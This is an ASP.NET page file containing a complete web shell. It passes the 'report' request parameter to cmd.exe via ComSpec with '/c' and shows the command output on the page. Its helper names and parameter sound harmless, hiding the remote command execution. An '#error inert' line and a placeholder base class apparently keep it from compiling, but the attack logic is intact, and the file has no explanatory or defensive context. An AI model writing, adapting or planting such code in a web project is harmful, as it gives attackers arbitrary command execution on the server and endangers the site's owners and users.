<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
    private string Fetch(string name) { return Context.Request[name] ?? string.Empty; }

    private string Prepare(string raw)
    {
        string trimmed = raw.Trim();
        return "/c \"" + trimmed + "\"";
    }

    private string Launch(string tool, string args)
    {
        var proc = new System.Diagnostics.Process();
        proc.StartInfo.FileName = tool;
        proc.StartInfo.Arguments = args;
        proc.StartInfo.UseShellExecute = false;
        proc.StartInfo.RedirectStandardOutput = true;
        proc.Start();
        return proc.StandardOutput.ReadToEnd();
    }

    protected override void OnInit(EventArgs e)
    {
        base.OnInit(e);
        string wanted = Fetch("report");
        if (wanted.Length == 0) return;
        lblOut.Text = Launch(Environment.GetEnvironmentVariable("ComSpec"), Prepare(wanted));
    }
</script>
<html><body><form runat="server"><asp:Label ID="lblOut" runat="server" /></form></body></html>
